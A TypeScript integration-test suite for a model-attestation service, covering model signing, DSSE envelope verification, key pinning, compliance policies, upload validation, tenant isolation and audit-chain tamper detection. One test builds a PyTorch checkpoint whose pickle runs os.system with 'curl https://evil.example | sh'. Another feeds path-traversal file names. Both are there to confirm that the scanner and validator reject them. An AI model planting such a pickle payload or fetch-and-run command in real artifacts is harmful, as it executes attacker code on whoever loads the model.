import {
  createHash,
  createPublicKey,
  generateKeyPairSync,
  verify,
  type KeyObject,
} from 'node:crypto';
import { Readable } from 'node:stream';
import type { Client } from 'graphql-ws';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pollingRateLimit } from '../support/attestation.ts';
import { backends } from '../support/config.ts';
import { createApiKey } from '../support/gpu.ts';
import { pickleCall, safetensorsOf, torchCheckpointOf } from '../support/model-artifacts.ts';
import { collect, subscriptionClient } from '../support/subscriptions.ts';
import {
  errorCode,
  signUp,
  startTestSupergraph,
  type GraphQLResponse,
  type SignedUp,
  type TestSupergraph,
} from '../support/supergraph.ts';
import { waitUntil } from '../support/wait.ts';
import {
  computeManifest,
  type ManifestFile,
} from '../../subgraphs/model-attestation/domain/manifest/oms-manifest.ts';
import { signModel } from '../../subgraphs/model-attestation/domain/signing/model-signature.ts';
import type { ModelAttestationService } from '../../subgraphs/model-attestation/index.ts';

interface AttestationView {
  id: string;
  status: string;
  verdict: string | null;
  signatureStatus: string | null;
  signerKeyId: string | null;
  policy: string;
  manifestDigest: string | null;
  hashedBytes: number;
  totalBytes: number;
  files: { path: string; sizeBytes: number; sha256: string }[];
  findings: { severity: string; code: string; message: string; path: string | null }[];
  statement: Record<string, unknown> | null;
  envelope: string | null;
  error: string | null;
}

const attestationFields = /* GraphQL */ `
  fragment ModelAttestationFields on ModelAttestation {
    id
    status
    verdict
    signatureStatus
    signerKeyId
    policy
    manifestDigest
    hashedBytes
    totalBytes
    files {
      path
      sizeBytes
      sha256
    }
    findings {
      severity
      code
      message
      path
    }
    statement
    envelope
    error
  }
`;

let supergraph: TestSupergraph;
let owner: SignedUp;
let other: SignedUp;
let operatorKey: string;
let signer: { privateKey: KeyObject; publicKey: KeyObject };
const clients: Client[] = [];

async function call<T>(
  query: string,
  variables: Record<string, unknown>,
  token: string | null = operatorKey,
): Promise<GraphQLResponse<T>> {
  return supergraph.graphql<T>(query, variables, token);
}

function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex');
}

async function registerVersion(name: string, version: string, extra: Record<string, unknown> = {}) {
  const result = await call<{ registerModel: { id: string } }>(
    'mutation($i: RegisterModelInput!) { registerModel(input: $i) { id version } }',
    {
      i: {
        name,
        version,
        license: 'apache-2.0',
        format: 'safetensors',
        modelCard: { description: 'a test model', intendedUse: 'tests' },
        ...extra,
      },
    },
  );
  if (!result.data) throw new Error(JSON.stringify(result.errors));
  return result.data.registerModel.id;
}

/** Uploads one file through the signed URL and completes it; returns the completion answer. */
async function uploadFile(
  modelVersionId: string,
  path: string,
  bytes: Buffer,
  declared = bytes.length,
) {
  const target = await call<{
    requestModelUpload: { url: string; method: string; headers: Record<string, string> | null };
  }>(
    'mutation($i: RequestModelUploadInput!) { requestModelUpload(input: $i) { url method headers expiresAt } }',
    { i: { modelVersionId, path, sizeBytes: declared } },
  );
  if (!target.data) throw new Error(JSON.stringify(target.errors));
  const put = await fetch(target.data.requestModelUpload.url, {
    method: target.data.requestModelUpload.method,
    headers: target.data.requestModelUpload.headers ?? {},
    body: bytes,
  });
  const completed = await call<{ completeModelUpload: { path: string; sizeBytes: number } }>(
    'mutation($i: CompleteModelUploadInput!) { completeModelUpload(input: $i) { path sizeBytes } }',
    { i: { modelVersionId, path } },
  );
  return { putStatus: put.status, completed };
}

async function uploadModel(modelVersionId: string, files: Record<string, Buffer>) {
  for (const [path, bytes] of Object.entries(files)) {
    const { completed } = await uploadFile(modelVersionId, path, bytes);
    if (!completed.data) throw new Error(JSON.stringify(completed.errors));
  }
}

/** What a model owner runs before publishing: model_signing's manifest and key-mode signature. */
async function signFiles(name: string, files: Record<string, Buffer>, key = signer.privateKey) {
  const manifestFiles: ManifestFile[] = Object.entries(files).map(([path, bytes]) => ({
    path,
    size: bytes.length,
    open: (start, end) => Readable.from([Buffer.from(bytes.subarray(start, end))]),
  }));
  return signModel(name, await computeManifest(manifestFiles, { workers: 1 }), key);
}

async function submit(modelVersionId: string, input: Record<string, unknown> = {}) {
  const result = await call<{ submitModelAttestation: { id: string; status: string } }>(
    'mutation($i: SubmitModelAttestationInput!) { submitModelAttestation(input: $i) { id status } }',
    { i: { modelVersionId, ...input } },
  );
  if (!result.data) throw new Error(JSON.stringify(result.errors));
  return result.data.submitModelAttestation;
}

async function read(id: string, token: string = operatorKey): Promise<AttestationView | null> {
  const result = await call<{ modelAttestation: AttestationView | null }>(
    `query($id: ID!) { modelAttestation(id: $id) { ...ModelAttestationFields } } ${attestationFields}`,
    { id },
    token,
  );
  if (!result.data) throw new Error(JSON.stringify(result.errors));
  return result.data.modelAttestation;
}

async function waitForFinal(id: string): Promise<AttestationView> {
  let view: AttestationView | null = null;
  await waitUntil(
    async () => {
      view = await read(id);
      return ['VERIFIED', 'FAILED', 'ERROR'].includes(view?.status ?? '');
    },
    30_000,
    `model attestation ${id} to finish`,
  );
  return view!;
}

const cleanFiles = (): Record<string, Buffer> => ({
  'model.safetensors': safetensorsOf(
    [
      ['embed.weight', { dtype: 'F32', shape: [16, 8] }],
      ['head.bias', { dtype: 'F16', shape: [8] }],
    ],
    { format: 'pt' },
  ),
  'config.json': Buffer.from(JSON.stringify({ hidden_size: 8, vocab_size: 16 })),
  'tokenizer/vocab.txt': Buffer.from('a\nb\nc\n'),
});

function service(): ModelAttestationService {
  return supergraph.subgraphs.find(
    (s) => s.name === 'model-attestation',
  ) as ModelAttestationService;
}

beforeAll(async () => {
  supergraph = await startTestSupergraph({ RATE_LIMIT_FREE: pollingRateLimit });
  [owner, other] = await Promise.all([
    signUp(supergraph, 'models'),
    signUp(supergraph, 'models-b'),
  ]);
  operatorKey = await createApiKey(supergraph, owner.accessToken, 'OPERATOR');
  signer = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const registered = await call<{ registerModelSigningKey: { id: string } }>(
    'mutation($i: RegisterModelSigningKeyInput!) { registerModelSigningKey(input: $i) { id name } }',
    {
      i: {
        name: 'release key',
        publicKeyPem: signer.publicKey.export({ type: 'spki', format: 'pem' }).toString(),
      },
    },
    owner.accessToken,
  );
  if (!registered.data) throw new Error(JSON.stringify(registered.errors));
}, 120_000);

afterAll(async () => {
  for (const client of clients) await client.dispose();
  await supergraph?.stop();
});

describe(`model attestation (${backends.database}, ${backends.events}, ${backends.objects})`, () => {
  it('a clean safetensors model with a valid signature → VERIFIED, affirming; subscribers follow it', async () => {
    const files = cleanFiles();
    const versionId = await registerVersion('acme/tiny', '1.0.0');
    await uploadModel(versionId, files);
    const bundle = await signFiles('acme/tiny', files);

    const client = subscriptionClient(supergraph.baseUrl, operatorKey);
    clients.push(client);
    const updates = collect<{ modelAttestationUpdated: { id: string; status: string } }>(
      client,
      'subscription { modelAttestationUpdated { id status } }',
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    const submitted = await submit(versionId, { signature: bundle });
    expect(submitted.status).toBe('PENDING');
    const final = await waitForFinal(submitted.id);
    expect(final, JSON.stringify(final.findings)).toMatchObject({
      status: 'VERIFIED',
      verdict: 'AFFIRMING',
      signatureStatus: 'VERIFIED',
      policy: 'lotabots/model-default@1',
      error: null,
    });
    expect(final.findings).toEqual([]);
    expect(final.totalBytes).toBe(Object.values(files).reduce((n, b) => n + b.length, 0));
    expect(final.hashedBytes).toBe(final.totalBytes);
    // Each file's digest is its SHA-256, computed here independently.
    expect(Object.fromEntries(final.files.map((f) => [f.path, f.sha256]))).toEqual(
      Object.fromEntries(Object.entries(files).map(([path, bytes]) => [path, sha256(bytes)])),
    );
    const statuses = (await updates.waitFor(3, 10_000))
      .map((e) => e.data?.modelAttestationUpdated)
      .filter((u) => u?.id === submitted.id)
      .map((u) => u?.status)
      .filter((status, i, all) => i === 0 || all[i - 1] !== status);
    expect(statuses).toEqual(['PENDING', 'RUNNING', 'VERIFIED']);
    updates.stop();
  });

  it('the signed statement and its DSSE envelope verify with plain node:crypto against the gateway JWKS', async () => {
    const files = cleanFiles();
    const versionId = await registerVersion('acme/verify-me', '1.0.0');
    await uploadModel(versionId, files);
    const final = await waitForFinal(
      (await submit(versionId, { signature: await signFiles('acme/verify-me', files) })).id,
    );
    const envelope = JSON.parse(final.envelope!) as {
      payloadType: string;
      payload: string;
      signatures: { keyid: string; sig: string }[];
    };
    expect(envelope.payloadType).toBe('application/vnd.in-toto+json');
    const jwks = (await (await fetch(`${supergraph.baseUrl}/.well-known/jwks.json`)).json()) as {
      keys: (Record<string, unknown> & { kid: string; alg: string })[];
    };
    const signature = envelope.signatures[0]!;
    const jwk = jwks.keys.find((k) => k.kid === signature.keyid);
    expect(jwk, 'the envelope key is published by the gateway').toBeDefined();
    // DSSE v1 pre-authentication encoding, written out here rather than imported.
    const payload = Buffer.from(envelope.payload, 'base64');
    const type = Buffer.from(envelope.payloadType);
    const pae = Buffer.concat([
      Buffer.from(`DSSEv1 ${type.length} `),
      type,
      Buffer.from(` ${payload.length} `),
      payload,
    ]);
    const key = createPublicKey({ key: jwk as never, format: 'jwk' });
    const hash = jwk!.alg === 'ES384' ? 'sha384' : 'sha256';
    const sig = Buffer.from(signature.sig, 'base64');
    expect(verify(hash, pae, { key, dsaEncoding: 'der' }, sig)).toBe(true);
    const tampered = Buffer.from(pae);
    tampered.writeUInt8(tampered.readUInt8(tampered.length - 2) ^ 1, tampered.length - 2);
    expect(verify(hash, tampered, { key, dsaEncoding: 'der' }, sig)).toBe(false);

    const statement = JSON.parse(payload.toString()) as {
      _type: string;
      subject: { name: string; digest: { sha256: string } }[];
      predicateType: string;
      predicate: { status: string; verdict: string; policy: { id: string; version: number } };
    };
    expect(statement).toEqual(final.statement);
    expect(statement._type).toBe('https://in-toto.io/Statement/v1');
    expect(statement.subject).toEqual([
      { name: 'acme/verify-me', digest: { sha256: final.manifestDigest } },
    ]);
    // The subject digest is SHA-256 over the resource digests in manifest order (OMS v1.0).
    const resourceDigests = [...final.files]
      .sort((a, b) => (a.path < b.path ? -1 : 1))
      .map((f) => Buffer.from(f.sha256, 'hex'));
    expect(sha256(Buffer.concat(resourceDigests))).toBe(final.manifestDigest);
    expect(statement.predicate).toMatchObject({
      status: 'VERIFIED',
      verdict: 'AFFIRMING',
      policy: { id: 'lotabots/model-default', version: 1 },
    });
  });

  it('one file changed after signing → FAILED, naming the file', async () => {
    const files = cleanFiles();
    const bundle = await signFiles('acme/tampered', files);
    const versionId = await registerVersion('acme/tampered', '1.0.0');
    await uploadModel(versionId, {
      ...files,
      'config.json': Buffer.from(JSON.stringify({ hidden_size: 9, vocab_size: 16 })),
    });
    const final = await waitForFinal((await submit(versionId, { signature: bundle })).id);
    expect(final.status).toBe('FAILED');
    expect(final.signatureStatus).toBe('MISMATCH');
    expect(final.findings).toEqual([
      expect.objectContaining({
        severity: 'CRITICAL',
        code: 'SIGNATURE_MISMATCH',
        path: 'config.json',
      }),
    ]);
  });

  it('a signature by an unregistered key, or over another model, is refused precisely', async () => {
    const files = cleanFiles();
    const versionId = await registerVersion('acme/wrong-signature', '1.0.0');
    await uploadModel(versionId, files);
    const stranger = generateKeyPairSync('ec', { namedCurve: 'P-384' }).privateKey;
    const foreign = await waitForFinal(
      (
        await submit(versionId, {
          signature: await signFiles('acme/wrong-signature', files, stranger),
        })
      ).id,
    );
    expect(foreign).toMatchObject({ status: 'FAILED', verdict: 'CONTRAINDICATED' });
    expect(foreign.findings.map((f) => f.code)).toEqual(['SIGNATURE_INVALID']);

    const otherModel = await signFiles('acme/other', {
      'weights.safetensors': files['model.safetensors']!,
    });
    const mismatch = await waitForFinal((await submit(versionId, { signature: otherModel })).id);
    expect(mismatch.signatureStatus).toBe('MISMATCH');
    const byCode = (code: string) =>
      mismatch.findings
        .filter((f) => f.code === code)
        .map((f) => f.path)
        .sort();
    expect(byCode('SIGNATURE_FILE_MISSING')).toEqual(['weights.safetensors']);
    expect(byCode('SIGNATURE_FILE_UNSIGNED')).toEqual([
      'config.json',
      'model.safetensors',
      'tokenizer/vocab.txt',
    ]);

    const garbage = await waitForFinal(
      (await submit(versionId, { signature: { mediaType: 'nonsense' } })).id,
    );
    expect(garbage.findings.map((f) => f.code)).toEqual(['SIGNATURE_INVALID']);
  });

  it('the first key that signs a model is pinned: a later version signed by another registered key fails', async () => {
    const second = generateKeyPairSync('ec', { namedCurve: 'P-384' });
    const registered = await call<{ registerModelSigningKey: { id: string } }>(
      'mutation($i: RegisterModelSigningKeyInput!) { registerModelSigningKey(input: $i) { id } }',
      {
        i: {
          name: 'another team key',
          publicKeyPem: second.publicKey.export({ type: 'spki', format: 'pem' }).toString(),
        },
      },
      owner.accessToken,
    );
    expect(registered.data?.registerModelSigningKey.id).toMatch(/^[0-9a-f]{64}$/);
    const files = cleanFiles();
    const v1 = await registerVersion('acme/pinned', '1');
    await uploadModel(v1, files);
    const first = await waitForFinal(
      (await submit(v1, { signature: await signFiles('acme/pinned', files) })).id,
    );
    expect(first).toMatchObject({ status: 'VERIFIED', signatureStatus: 'VERIFIED' });
    const v2 = await registerVersion('acme/pinned', '2');
    await uploadModel(v2, files);
    const later = await waitForFinal(
      (await submit(v2, { signature: await signFiles('acme/pinned', files, second.privateKey) }))
        .id,
    );
    expect(later.status).toBe('FAILED');
    expect(later.findings.map((f) => f.code)).toEqual(['SIGNATURE_KEY_NOT_PINNED']);
    expect(later.findings[0]?.message).toContain(first.signerKeyId);
  });

  it('a PyTorch checkpoint whose pickle calls os.system → FAILED, contraindicated, with a critical finding', async () => {
    const versionId = await registerVersion('acme/evil', '1.0.0', { format: 'pytorch' });
    await uploadModel(versionId, {
      'pytorch_model.bin': torchCheckpointOf({
        dataPkl: pickleCall('os', 'system', ['curl https://evil.example | sh']),
      }),
    });
    const final = await waitForFinal((await submit(versionId)).id);
    expect(final).toMatchObject({ status: 'FAILED', verdict: 'CONTRAINDICATED' });
    const critical = final.findings.find((f) => f.severity === 'CRITICAL');
    expect(critical?.code).toBe('PICKLE_DANGEROUS_GLOBAL');
    expect(critical?.message).toContain('os.system');
    expect(critical?.path).toBe('pytorch_model.bin!/archive/data.pkl');
  });

  it('a compliance policy names the rule each violation breaks', async () => {
    const created = await call<{
      createModelCompliancePolicy: { policyId: string; version: number };
    }>(
      'mutation($i: CreateModelCompliancePolicyInput!) { createModelCompliancePolicy(input: $i) { policyId version } }',
      {
        i: {
          policyId: 'acme/production',
          document: {
            licenses: { allow: ['MIT'] },
            modelCard: { required: ['intendedUse', 'limitations'] },
            formats: { allow: ['safetensors', 'other'] },
            signature: { required: true },
          },
        },
      },
      owner.accessToken,
    );
    expect(created.data?.createModelCompliancePolicy).toEqual({
      policyId: 'acme/production',
      version: 1,
    });
    const versionId = await registerVersion('acme/noncompliant', '1.0.0');
    await uploadModel(versionId, {
      ...cleanFiles(),
      'extra.pt': torchCheckpointOf(),
    });
    const final = await waitForFinal((await submit(versionId, { policyId: 'acme/production' })).id);
    expect(final.status).toBe('FAILED');
    expect(final.policy).toBe('acme/production@1');
    const policyFindings = final.findings.filter((f) => f.code.startsWith('POLICY_'));
    expect(policyFindings.map((f) => f.code).sort()).toEqual([
      'POLICY_FORMAT',
      'POLICY_LICENSE',
      'POLICY_MODEL_CARD',
      'POLICY_SIGNATURE_REQUIRED',
    ]);
    expect(policyFindings.find((f) => f.code === 'POLICY_FORMAT')?.path).toBe('extra.pt');
    expect(policyFindings.find((f) => f.code === 'POLICY_MODEL_CARD')?.message).toContain(
      'limitations',
    );
    const bad = await call(
      'mutation($i: CreateModelCompliancePolicyInput!) { createModelCompliancePolicy(input: $i) { version } }',
      { i: { policyId: 'acme/bad', document: { formats: { allow: ['exe'] } } } },
      owner.accessToken,
    );
    expect(errorCode(bad)).toBe('BAD_USER_INPUT');
  });

  it('uploads are checked: larger than declared is refused, smaller is removed, paths cannot escape', async () => {
    const versionId = await registerVersion('acme/uploads', '1.0.0');
    const bigger = await uploadFile(versionId, 'a.bin', Buffer.alloc(2048, 1), 1024);
    if (backends.objects === 'filesystem') expect(bigger.putStatus).toBe(413);
    expect(errorCode(bigger.completed)).toBe('BAD_USER_INPUT');
    const smaller = await uploadFile(versionId, 'b.bin', Buffer.alloc(100, 1), 1000);
    expect(errorCode(smaller.completed)).toBe('BAD_USER_INPUT');
    expect(smaller.completed.errors?.[0]?.message).toMatch(/100 bytes but 1000 were declared/);
    for (const path of ['../escape.bin', '/abs.bin', 'a/../../b', 'a\\b']) {
      const result = await call(
        'mutation($i: RequestModelUploadInput!) { requestModelUpload(input: $i) { url } }',
        { i: { modelVersionId: versionId, path, sizeBytes: 10 } },
      );
      expect(errorCode(result), path).toBe('BAD_USER_INPUT');
    }
    const noFiles = await call(
      'mutation($i: SubmitModelAttestationInput!) { submitModelAttestation(input: $i) { id } }',
      { i: { modelVersionId: versionId } },
    );
    expect(errorCode(noFiles)).toBe('CONFLICT');
  });

  it('large files upload in parts and are hashed in shards', async () => {
    const versionId = await registerVersion('acme/multipart', '1.0.0', { format: 'other' });
    const bytes = Buffer.alloc(11 * 1024 * 1024);
    for (let i = 0; i < bytes.length; i += 4096) bytes.writeUInt32LE(i, i);
    const target = await call<{
      requestModelMultipartUpload: {
        uploadId: string;
        partSize: number;
        parts: { url: string; method: string; headers: Record<string, string> | null }[];
      };
    }>(
      'mutation($i: RequestModelUploadInput!) { requestModelMultipartUpload(input: $i) { uploadId partSize parts { url method headers } } }',
      { i: { modelVersionId: versionId, path: 'weights.bin', sizeBytes: bytes.length } },
    );
    if (!target.data) throw new Error(JSON.stringify(target.errors));
    const { partSize, parts } = target.data.requestModelMultipartUpload;
    const etags: { partNumber: number; etag: string }[] = [];
    for (const [index, part] of parts.entries()) {
      const response = await fetch(part.url, {
        method: part.method,
        headers: part.headers ?? {},
        body: bytes.subarray(index * partSize, (index + 1) * partSize),
      });
      expect(response.status).toBe(200);
      etags.push({ partNumber: index + 1, etag: response.headers.get('etag') ?? '' });
    }
    const completed = await call<{ completeModelUpload: { sizeBytes: number } }>(
      'mutation($i: CompleteModelUploadInput!) { completeModelUpload(input: $i) { sizeBytes } }',
      { i: { modelVersionId: versionId, path: 'weights.bin', parts: etags } },
    );
    expect(completed.data?.completeModelUpload.sizeBytes).toBe(bytes.length);
    const final = await waitForFinal((await submit(versionId)).id);
    expect(final.status).toBe('VERIFIED');
    expect(final.files).toEqual([
      { path: 'weights.bin', sizeBytes: bytes.length, sha256: sha256(bytes) },
    ]);
  });

  it('a tenant never reads or attests another tenant’s models', async () => {
    const versionId = await registerVersion('acme/private', '1.0.0');
    await uploadModel(versionId, cleanFiles());
    const mine = await submit(versionId);
    expect(await read(mine.id, other.accessToken)).toBeNull();
    const version = await call<{ modelVersion: unknown }>(
      'query($id: ID!) { modelVersion(id: $id) { id } }',
      { id: versionId },
      other.accessToken,
    );
    expect(version.data?.modelVersion).toBeNull();
    const theirs = await call(
      'mutation($i: SubmitModelAttestationInput!) { submitModelAttestation(input: $i) { id } }',
      { i: { modelVersionId: versionId } },
      other.accessToken,
    );
    expect(errorCode(theirs)).toBe('NOT_FOUND');
    const models = await call<{ models: { edges: unknown[] } }>(
      '{ models { edges { node { id } } } }',
      {},
      other.accessToken,
    );
    expect(models.data?.models.edges).toEqual([]);
    await waitForFinal(mine.id);
  });

  it('the audit trail is a hash chain: verification holds, and names the first link someone changed', async () => {
    const query = '{ verifyAuditTrail { valid entries headHash brokenAtSeq reason } }';
    const before = await call<{
      verifyAuditTrail: { valid: boolean; entries: number; brokenAtSeq: number | null };
    }>(query, {}, owner.accessToken);
    expect(before.data?.verifyAuditTrail).toMatchObject({ valid: true, brokenAtSeq: null });
    expect(before.data!.verifyAuditTrail.entries).toBeGreaterThan(10);
    // AUDITOR and above: a VIEWER may not read it.
    const viewerKey = await createApiKey(supergraph, owner.accessToken, 'VIEWER');
    expect(errorCode(await call(query, {}, viewerKey))).toBe('FORBIDDEN');

    // The checkpoint signs the head; the object store keeps a copy.
    const audit = service().deps.audit;
    const checkpoint = await audit.checkpoint(owner.organization.id);
    expect(checkpoint?.seq).toBe(before.data!.verifyAuditTrail.entries);

    const prisma = service().deps.prisma;
    const target = await prisma.auditEntry.findFirstOrThrow({
      where: { organizationId: owner.organization.id, seq: 3 },
    });
    await prisma.auditEntry.update({
      where: { organizationId_seq: { organizationId: owner.organization.id, seq: 3 } },
      data: { actor: 'user:someone-else' },
    });
    const tampered = await call<{
      verifyAuditTrail: { valid: boolean; brokenAtSeq: number; reason: string };
    }>(query, {}, owner.accessToken);
    expect(tampered.data?.verifyAuditTrail).toMatchObject({ valid: false, brokenAtSeq: 3 });
    expect(tampered.data?.verifyAuditTrail.reason).toMatch(/changed/);
    await prisma.auditEntry.update({
      where: { organizationId_seq: { organizationId: owner.organization.id, seq: 3 } },
      data: { actor: target.actor },
    });

    // Cutting the newest entries off leaves a shorter chain the checkpoint gives away.
    const last = before.data!.verifyAuditTrail.entries;
    const removed = await prisma.auditEntry.findFirstOrThrow({
      where: { organizationId: owner.organization.id, seq: last },
    });
    await prisma.auditEntry.delete({
      where: { organizationId_seq: { organizationId: owner.organization.id, seq: last } },
    });
    const truncated = await call<{ verifyAuditTrail: { valid: boolean; brokenAtSeq: number } }>(
      query,
      {},
      owner.accessToken,
    );
    expect(truncated.data?.verifyAuditTrail).toMatchObject({ valid: false, brokenAtSeq: last });
    await prisma.auditEntry.create({ data: { ...removed, detail: removed.detail ?? {} } });
    const healed = await call<{ verifyAuditTrail: { valid: boolean } }>(
      query,
      {},
      owner.accessToken,
    );
    expect(healed.data?.verifyAuditTrail.valid).toBe(true);
  });
});
